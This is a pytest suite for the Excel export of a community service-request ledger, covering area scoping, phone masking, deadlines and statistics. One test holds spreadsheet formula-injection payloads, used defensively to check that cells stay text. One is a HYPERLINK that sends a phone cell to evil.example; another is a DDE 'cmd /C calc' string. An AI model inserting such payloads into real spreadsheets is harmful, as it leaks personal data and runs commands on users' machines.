"""The ledger workbook: what each viewer's area holds, every cell of a row, the header in
Chinese, dates as Excel datetimes, masked phones, the deadline columns, and rows streamed in
batches. The workbook is written to memory and opened again with openpyxl."""

from __future__ import annotations

import io
import zipfile
from datetime import UTC, datetime, timedelta
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet
from sqlmodel import select

import domain.ledger as ledger_module
from domain.areas import Area, area_of, area_of_unit
from domain.clock import ManualClock
from domain.deadlines import DEFAULT_POLICY
from domain.i18n import translator
from domain.ledger import (
    COLUMNS,
    Viewer,
    accept_outcome,
    resolve_deadline,
    resolve_outcome,
    write_ledger,
)
from domain.lifecycle import Action
from domain.reports import parse_period
from domain.requests import submit_request, transition
from domain.verdicts import BY_REPORTER, close_request, record_verdict, reopen
from schedules.sweep import sweep
from storage.database import Database
from storage.models import Account, Beneficiary, Request, Staff, Unit

ZONE = ZoneInfo("Asia/Shanghai")
NOW = datetime(2026, 11, 30, 10, 0, tzinfo=ZONE).astimezone(UTC)
NOVEMBER = parse_period("2026-11", NOW, ZONE)


def local(month: int, day: int, hour: int, minute: int = 0) -> datetime:
    return datetime(2026, month, day, hour, minute, tzinfo=ZONE).astimezone(UTC)


async def account(db: Database, telegram_id: int, name: str, grid: str, now: datetime) -> int:
    async with db.transaction() as session:
        row = Account(
            telegram_id=telegram_id,
            chat_id=telegram_id,
            display_name=name,
            consent_at=now,
            home_grid_code=grid,
            created_at=now,
        )
        session.add(row)
        await session.flush()
        assert row.id is not None
        return row.id


async def submit(
    db: Database,
    now: datetime,
    reporter_id: int,
    *,
    grid: str,
    category: str = "repair",
    name: str = "Resident",
    phone: str | None = None,
    is_self: bool = True,
) -> int:
    async with db.transaction() as session:
        reporter = await session.get(Account, reporter_id)
        assert reporter is not None
        beneficiary = Beneficiary(
            owner_account_id=reporter_id,
            is_self=is_self,
            name=name,
            relation="" if is_self else "mother",
            grid_code=grid,
            phone=phone,
            created_at=now,
        )
        session.add(beneficiary)
        await session.flush()
        request, _ = await submit_request(
            session,
            reporter=reporter,
            beneficiary=beneficiary,
            kind="living",
            category=category,
            description="Please help",
            media_kind=None,
            media_file_id=None,
            now=now,
            zone=ZONE,
            policy=DEFAULT_POLICY,
        )
        assert request.id is not None
        return request.id


async def act(db: Database, request_id: int, action: Action, now: datetime) -> None:
    async with db.transaction() as session:
        request = await session.get(Request, request_id)
        assert request is not None
        await transition(
            session, request, action, now, actor_staff_id=request.assignee_staff_id, note="Done"
        )


async def staff(db: Database, name: str) -> Staff:
    async with db.session() as session:
        return (await session.exec(select(Staff).where(Staff.name == name))).one()


@pytest.fixture
async def district(db: Database) -> dict[str, int]:
    return await make_district(db)


async def make_district(db: Database) -> dict[str, int]:
    """Requests across the district, in and out of November, in each state the ledger shows.

    escalated  Tianhe 1, safety: accepted in time, not resolved within 24 h, escalated to the
               coordinator, resolved there
    closed     Tianhe 1, repair: accepted in 30 min, resolved, satisfied, closed
    late       Tianhe 2, repair, for a mother (with a phone) reported by her son: never accepted
    liuyuan    Liuyuan 1 (same town, other community)
    fengming   Maojiachong 1 (other town)
    october    Tianhe 1, received in October
    """
    clock = ManualClock(local(10, 30, 9))
    resident = await account(db, 900001, "Li Ming", "QS-JB-TH-01", clock.now())
    son = await account(db, 900002, "Zhang Hua", "QS-JB-TH-02", clock.now())
    other = await account(db, 900003, "Chen Yu", "QS-FM-MJ-01", clock.now())
    ids: dict[str, int] = {}
    ids["october"] = await submit(db, clock.now(), resident, grid="QS-JB-TH-01")

    clock.set(local(11, 2, 10))
    ids["escalated"] = await submit(
        db, clock.now(), resident, grid="QS-JB-TH-01", category="safety", phone="13800001111"
    )
    await act(db, ids["escalated"], Action.ACCEPT, local(11, 2, 10, 20))
    clock.set(local(11, 3, 11))
    report = await sweep(db, clock, ZONE, DEFAULT_POLICY)
    assert (ids["escalated"], "escalate:grid->community") in report.actions
    await act(db, ids["escalated"], Action.ACCEPT, local(11, 3, 11, 30))
    await act(db, ids["escalated"], Action.RESOLVE, local(11, 3, 15))

    ids["closed"] = await submit(
        db, local(11, 10, 9), resident, grid="QS-JB-TH-01", name="Li Ming", phone="13800002222"
    )
    await act(db, ids["closed"], Action.ACCEPT, local(11, 10, 9, 30))
    await act(db, ids["closed"], Action.RESOLVE, local(11, 11, 16))
    async with db.transaction() as session:
        request = await session.get(Request, ids["closed"])
        assert request is not None
        await record_verdict(
            session,
            request,
            local(11, 11, 18),
            solved=True,
            satisfaction="satisfied",
            by=BY_REPORTER,
            account_id=resident,
        )
        request.verdict_comment = "Quick & tidy <thanks>"
        await close_request(session, request, local(11, 11, 18))

    ids["late"] = await submit(
        db,
        local(11, 20, 14),
        son,
        grid="QS-JB-TH-02",
        name="Wang Lan",
        phone="13900003333",
        is_self=False,
    )
    ids["liuyuan"] = await submit(db, local(11, 20, 15), resident, grid="QS-JB-LY-01")
    ids["fengming"] = await submit(
        db, local(11, 21, 9), other, grid="QS-FM-MJ-01", category="agriculture"
    )
    return ids


async def export(
    db: Database, area: Area, viewer: Viewer, language: str = "en"
) -> tuple[Worksheet, int]:
    sheet, _, count = await export_book(db, area, viewer, language)
    return sheet, count


async def export_book(
    db: Database, area: Area, viewer: Viewer, language: str = "en"
) -> tuple[Worksheet, Worksheet, int]:
    assert NOVEMBER is not None
    buffer = io.BytesIO()
    async with db.session() as session:
        count = await write_ledger(
            session,
            area,
            NOVEMBER,
            buffer,
            t=translator(language),
            zone=ZONE,
            viewer=viewer,
            now=NOW,
        )
    buffer.seek(0)
    book = load_workbook(buffer)
    ledger, figures, _volunteers = book.worksheets
    return ledger, figures, count


def references(sheet: Worksheet) -> list[str]:
    return [str(row[0]) for row in sheet.iter_rows(min_row=2, values_only=True)]


def ref(request_id: int) -> str:
    return f"HY{request_id:06d}"


async def test_each_viewer_sees_only_their_area(db: Database, district: dict[str, int]) -> None:
    expected = {
        "徐国庆": ["escalated", "closed", "late"],  # Tianhe coordinator
        "胡海涛": ["escalated", "closed", "late", "liuyuan"],  # Jiangbei town officer
        "曹明": ["escalated", "closed", "late", "liuyuan", "fengming"],  # district admin
        "罗斌": ["closed", "late", "liuyuan"],  # housing bureau: repair and housing only
        "宋涛": ["fengming"],  # agriculture bureau
    }
    for name, wanted in expected.items():
        person = await staff(db, name)
        async with db.session() as session:
            area = await area_of(session, person)
        assert area is not None
        sheet, count = await export(db, area, Viewer(staff_id=person.id))
        assert references(sheet) == [ref(district[key]) for key in wanted], name
        assert count == len(wanted)
    async with db.session() as session:
        assert await area_of(session, await staff(db, "王建华")) is None  # grid members: none


async def test_every_cell_of_a_row(db: Database, district: dict[str, int]) -> None:
    xu = await staff(db, "徐国庆")
    async with db.session() as session:
        area = await area_of(session, xu)
    assert area is not None
    sheet, _ = await export(db, area, Viewer(staff_id=xu.id))
    rows = list(sheet.iter_rows(min_row=1, values_only=True))
    assert list(rows[0]) == [
        "Reference no.",
        "Received at",
        "Accepted at",
        "Resolved at",
        "Closed at",
        "Type of need",
        "Category",
        "Beneficiary",
        "Phone",
        "Reported by",
        "Grid",
        "Assignee",
        "Level",
        "Status",
        "Priority",
        "Times reopened",
        "Accept deadline",
        "Resolve deadline",
        "Accepted on time",
        "Resolved on time",
        "Solved",
        "Satisfaction",
        "Verdict given by",
        "Verdict comment",
        "Supporters",
    ]
    escalated, closed, late = rows[1:]
    # Accepted in 20 min of its 1-hour deadline; not resolved within 24 h, so escalated to
    # the coordinator (the viewer, so the phone is shown in full), who resolved it.
    assert list(escalated) == [
        ref(district["escalated"]),
        datetime(2026, 11, 2, 10, 0),
        datetime(2026, 11, 3, 11, 30),
        datetime(2026, 11, 3, 15, 0),
        None,
        "Daily living",
        "Safety hazard",
        "Resident",
        "13800001111",
        "Li Ming",
        "Tianhe Grid 1",
        "徐国庆",
        "community / village",
        "Resolved",
        "urgent",
        0,
        datetime(2026, 11, 2, 11, 0),
        datetime(2026, 11, 3, 10, 0),  # the grid member's resolve deadline, which passed
        "met",
        "missed",
        None,
        None,
        None,
        None,
        0,
    ]
    # Accepted in 30 min, resolved the next day, satisfied; held by the grid member, so the
    # coordinator sees the phone masked.
    assert list(closed) == [
        ref(district["closed"]),
        datetime(2026, 11, 10, 9, 0),
        datetime(2026, 11, 10, 9, 30),
        datetime(2026, 11, 11, 16, 0),
        datetime(2026, 11, 11, 18, 0),
        "Daily living",
        "Home repairs (water, power)",
        "Li Ming",
        "138****2222",
        "Li Ming",
        "Tianhe Grid 1",
        "王建华",
        "grid",
        "Closed",
        "normal",
        0,
        datetime(2026, 11, 11, 9, 0),
        datetime(2026, 11, 19, 9, 0),  # resolved within the resolve deadline
        "met",
        "met",
        "solved",
        "satisfied",
        "the resident",
        "Quick & tidy <thanks>",
        0,
    ]
    # Never accepted: its one-working-day accept deadline passed on 23 November; seven
    # working days to resolve run to 1 December.
    assert list(late) == [
        ref(district["late"]),
        datetime(2026, 11, 20, 14, 0),
        None,
        None,
        None,
        "Daily living",
        "Home repairs (water, power)",
        "Wang Lan",
        "139****3333",
        "Zhang Hua",
        "Tianhe Grid 2",
        "张伟",
        "grid",
        "Waiting to be accepted",
        "normal",
        0,
        datetime(2026, 11, 23, 14, 0),
        datetime(2026, 12, 1, 14, 0),
        "missed",
        "pending",
        None,
        None,
        None,
        None,
        0,
    ]


async def test_layout_dates_header_in_chinese(db: Database, district: dict[str, int]) -> None:
    async with db.session() as session:
        area = await area_of_unit(session, "QS-JB-TH")
    assert area is not None
    sheet, count = await export(db, area, Viewer(), language="zh_CN")
    header = [cell.value for cell in sheet[1]]
    assert header[:14] == [
        "编号",
        "登记时间",
        "受理时间",
        "办结时间",
        "结案时间",
        "需求类型",
        "类别",
        "服务对象",
        "联系电话",
        "登记人",
        "网格",
        "承办人",
        "层级",
        "状态",
    ]
    assert header[16:20] == ["受理时限", "办结时限", "是否按时受理", "是否按时办结"]
    assert header[22:] == ["评价人", "回访结果/评价", "附议人数"]
    assert all(cell.font.b for cell in sheet[1])
    assert sheet.title == "需求台账"
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:Y{count + 1}"
    received = sheet.cell(row=2, column=2)
    assert isinstance(received.value, datetime) and received.value.tzinfo is None
    assert received.number_format == "yyyy-mm-dd hh:mm"
    assert received.is_date
    for index, column in enumerate(COLUMNS, start=1):
        letter = sheet.cell(row=1, column=index).column_letter
        assert sheet.column_dimensions[letter].width == column.width
    second = [cell.value for cell in sheet[3]]
    assert second[6] == "房屋水电维修" and second[13] == "已完结"
    assert second[18:23] == ["按时", "按时", "已解决", "满意", "居民本人"]
    assert second[8] == "138****2222"  # no staff viewer: masked


async def test_the_terminal_sees_full_numbers(db: Database, district: dict[str, int]) -> None:
    async with db.session() as session:
        area = await area_of_unit(session, "QS")
    assert area is not None
    sheet, _ = await export(db, area, Viewer(all_phones=True))
    phones = [row[8] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert phones == ["13800001111", "13800002222", "13900003333", None, None]


async def test_rows_stream_in_batches_in_order(
    db: Database, district: dict[str, int], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(ledger_module, "BATCH", 2)
    async with db.session() as session:
        area = await area_of_unit(session, "QS")
    assert area is not None
    sheet, count = await export(db, area, Viewer())
    keys = ["escalated", "closed", "late", "liuyuan", "fengming"]
    assert references(sheet) == [ref(district[k]) for k in keys]
    assert count == 5
    assert [row[19] for row in sheet.iter_rows(min_row=2, values_only=True)] == [
        "missed",
        "met",
        "pending",
        "pending",
        "pending",
    ]


async def test_an_empty_period_is_a_header_only(db: Database) -> None:
    async with db.session() as session:
        area = await area_of_unit(session, "QS-JB-TH")
    assert area is not None
    sheet, count = await export(db, area, Viewer())
    assert count == 0 and sheet.max_row == 1
    assert sheet.auto_filter.ref == "A1:Y1"


def request(**fields: object) -> Request:
    base: dict[str, object] = {
        "kind": "living",
        "category": "repair",
        "reporter_account_id": 1,
        "beneficiary_id": 1,
        "grid_code": "G",
        "status": "assigned",
        "created_at": NOW - timedelta(days=2),
        "updated_at": NOW,
    }
    base.update(fields)
    return Request(**base)  # type: ignore[arg-type]


def test_deadline_outcomes() -> None:
    hour = timedelta(hours=1)
    due = NOW - hour
    # accept: the response rate's rule, then late, overdue, ahead, not counted
    assert accept_outcome(request(respond_by=due, responded_at=due), NOW) == "met"
    assert accept_outcome(request(respond_by=due, responded_at=due + hour), NOW) == "missed"
    assert accept_outcome(request(respond_by=due), NOW) == "missed"
    assert accept_outcome(request(respond_by=NOW + hour), NOW) == "pending"
    assert accept_outcome(request(status="new"), NOW) == "pending"
    assert accept_outcome(request(status="cancelled", respond_by=due), NOW) == ""
    # resolve: a recorded breach, done without one, the current deadline, paused, cancelled
    done = request(status="resolved", resolved_at=NOW)
    assert resolve_outcome(done, True, NOW) == "missed"
    assert resolve_outcome(done, False, NOW) == "met"
    assert resolve_outcome(request(status="closed"), False, NOW) == "met"
    assert resolve_outcome(request(resolve_due_at=due), False, NOW) == "missed"
    assert resolve_outcome(request(resolve_due_at=NOW + hour), False, NOW) == "pending"
    assert resolve_outcome(request(resolve_due_at=due, paused_at=due - hour), False, NOW) == (
        "pending"
    )
    assert resolve_outcome(request(status="cancelled", resolve_due_at=due), False, NOW) == ""


async def test_the_second_sheet_has_the_figures(db: Database, district: dict[str, int]) -> None:
    hu = await staff(db, "胡海涛")  # Jiangbei street: escalated, closed, late, liuyuan
    async with db.session() as session:
        area = await area_of(session, hu)
    assert area is not None
    _, figures, _ = await export_book(db, area, Viewer(staff_id=hu.id))
    assert figures.title == "Statistics"
    rows = [list(row) for row in figures.iter_rows(values_only=True)]
    width = len(rows[2])
    blank = [None] * width

    def padded(*values: object) -> list[object]:
        return [*values, *[None] * (width - len(values))]

    assert rows[0] == padded("Jiangbei Street · 2026-11")
    assert rows[1] == blank
    assert rows[2] == [
        "Unit or category",
        "Requests received",
        "Accepted",
        "Resolved",
        "Closed",
        "Still open",
        "Overdue",
        "Response rate",
        "Resolution rate",
        "Satisfaction rate",
    ]
    # Received 4; accepted in time 2 (escalated, closed); resolved 2; rated 1, satisfied.
    # Open and overdue: late and liuyuan, neither accepted by its deadline.
    assert rows[3] == ["Total", 4, 2, 2, 1, 2, 2, 0.5, 0.5, 1.0]
    assert rows[4] == blank
    assert rows[5] == padded("By community")
    assert rows[6] == ["Liuyuan Community", 1, 0, 0, 0, 1, 1, 0.0, 0.0, "—"]
    assert rows[7] == ["Qianjin Community", 0, 0, 0, 0, 0, 0, "—", "—", "—"]
    assert rows[8] == ["Tianhe Community", 3, 2, 2, 1, 1, 1, 2 / 3, 2 / 3, 1.0]
    assert rows[9] == blank
    assert rows[10] == padded("By category")
    assert rows[11] == ["Home repairs (water, power)", 3, 1, 1, 1, 2, 2, 1 / 3, 1 / 3, 1.0]
    assert rows[12] == ["Safety hazard", 1, 1, 1, 0, 0, 0, 1.0, 1.0, "—"]
    assert rows[13] == blank
    assert rows[14] == padded("Requests received per day")
    assert rows[15] == padded("Date", "Requests received")
    per_day = {row[0]: row[1] for row in rows[16:]}
    assert len(per_day) == 30 and sum(per_day.values()) == 4  # type: ignore[arg-type]
    assert per_day[datetime(2026, 11, 20)] == 2
    assert per_day[datetime(2026, 11, 2)] == per_day[datetime(2026, 11, 10)] == 1
    assert figures.cell(row=4, column=8).number_format == "0.0%"
    assert figures.cell(row=17, column=1).number_format == "yyyy-mm-dd"
    assert figures.cell(row=1, column=1).font.b


async def test_a_department_sees_its_remit_only(db: Database, district: dict[str, int]) -> None:
    luo = await staff(db, "罗斌")  # housing bureau: housing and repair
    async with db.session() as session:
        area = await area_of(session, luo)
    assert area is not None
    _, figures, _ = await export_book(db, area, Viewer(staff_id=luo.id), language="zh_CN")
    rows = [list(row) for row in figures.iter_rows(values_only=True)]
    assert rows[0][0] == "青石区 · 2026-11"
    assert rows[1][0] == translator("zh_CN")._("Only the categories in your remit are counted.")
    assert rows[4][:7] == ["合计", 3, 1, 1, 1, 2, 2]


FORMULAS = {
    "reporter": '=HYPERLINK("http://evil.example/?"&I2,"详情")',
    "beneficiary": "+86 138",
    "comment": "@SUM(1+1)*cmd|' /C calc'!A0",
    "grid": "-2+3",
    "assignee": "＝1+1",
    "community": "=1+1",
}


async def test_no_cell_carries_a_formula(db: Database, district: dict[str, int]) -> None:
    """Names, comments and roster labels that start like a formula stay text: the workbook has
    no formula cell (nor any <f> element), shows each as typed, and marks it quote-prefixed so
    that editing it in Excel or WPS keeps it text."""
    async with db.transaction() as session:
        request = await session.get(Request, district["closed"])
        assert request is not None
        reporter = await session.get(Account, request.reporter_account_id)
        beneficiary = await session.get(Beneficiary, request.beneficiary_id)
        grid = await session.get(Unit, request.grid_code)
        holder = await session.get(Staff, request.assignee_staff_id)
        community = await session.get(Unit, "QS-JB-TH")
        assert reporter and beneficiary and grid and holder and community
        reporter.display_name = FORMULAS["reporter"]
        beneficiary.name = FORMULAS["beneficiary"]
        request.verdict_comment = FORMULAS["comment"]
        grid.name = grid.name_en = FORMULAS["grid"]
        holder.name = FORMULAS["assignee"]
        community.name = community.name_en = FORMULAS["community"]
        session.add_all([reporter, beneficiary, request, grid, holder, community])
    async with db.session() as session:
        area = await area_of_unit(session, "QS-JB-TH")
    assert area is not None and NOVEMBER is not None
    for language in ("en", "zh_CN"):
        buffer = io.BytesIO()
        async with db.session() as session:
            await write_ledger(
                session,
                area,
                NOVEMBER,
                buffer,
                t=translator(language),
                zone=ZONE,
                viewer=Viewer(all_phones=True),
                now=NOW,
            )
        with zipfile.ZipFile(io.BytesIO(buffer.getvalue())) as archive:
            for name in archive.namelist():
                if name.startswith("xl/worksheets/"):
                    assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
        book = load_workbook(io.BytesIO(buffer.getvalue()))
        cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
        assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
        by_value = {cell.value: cell for cell in cells if isinstance(cell.value, str)}
        title = next(v for v in by_value if v.startswith(FORMULAS["community"] + " · "))
        by_value[FORMULAS["community"]] = by_value[title]  # the figures' title: area · period
        for value in FORMULAS.values():
            assert value in by_value, (language, value)
            assert by_value[value].data_type == "s"
            assert by_value[value].quotePrefix, (language, value)
        # Ordinary text is not marked.
        assert not by_value[ref(district["closed"])].quotePrefix


def test_the_resolve_deadline_shown() -> None:
    """Open: the current holder's. Resolved or closed: the first that passed, if one did,
    else the one it was resolved within. Cancelled: what is left (nothing)."""
    current, missed, within = NOW + timedelta(days=1), NOW - timedelta(days=3), NOW
    assert resolve_deadline(request(resolve_due_at=current)) == current
    assert resolve_deadline(request(resolve_due_at=current, resolve_missed_due_at=missed)) == (
        current
    )
    for status in ("resolved", "closed"):
        assert resolve_deadline(request(status=status, resolved_due_at=within)) == within
        assert (
            resolve_deadline(
                request(status=status, resolved_due_at=within, resolve_missed_due_at=missed)
            )
            == missed
        )
        assert resolve_deadline(request(status=status)) is None  # resolved before 0012
    assert resolve_deadline(request(status="cancelled")) is None


async def test_a_reopened_request_keeps_the_deadline_it_missed(
    db: Database, district: dict[str, int]
) -> None:
    """The escalated request missed the grid member's resolve deadline: reopened and resolved
    on time at the community, it still shows that deadline, as "Resolved on time" still says
    missed; the closed one, reopened and resolved again, shows its new holder's deadline."""
    for key in ("escalated", "closed"):
        async with db.transaction() as session:
            row = await session.get(Request, district[key])
            assert row is not None
            await reopen(
                session,
                row,
                local(11, 12, 9),
                ZONE,
                DEFAULT_POLICY,
                reason="Still broken",
                actor_account_id=row.reporter_account_id,
            )
        async with db.transaction() as session:
            row = await session.get(Request, district[key])
            assert row is not None and row.status == "assigned", (key, row and row.status)
        await act(db, district[key], Action.ACCEPT, local(11, 12, 10))
        await act(db, district[key], Action.RESOLVE, local(11, 12, 15))
    async with db.session() as session:
        escalated = await session.get(Request, district["escalated"])
        closed = await session.get(Request, district["closed"])
    assert escalated is not None and closed is not None
    assert resolve_deadline(escalated) == local(11, 3, 10)
    assert resolve_outcome(escalated, True, NOW) == "missed"
    assert closed.resolved_due_at is not None and closed.resolved_due_at > local(11, 12, 15)
    assert resolve_deadline(closed) == closed.resolved_due_at
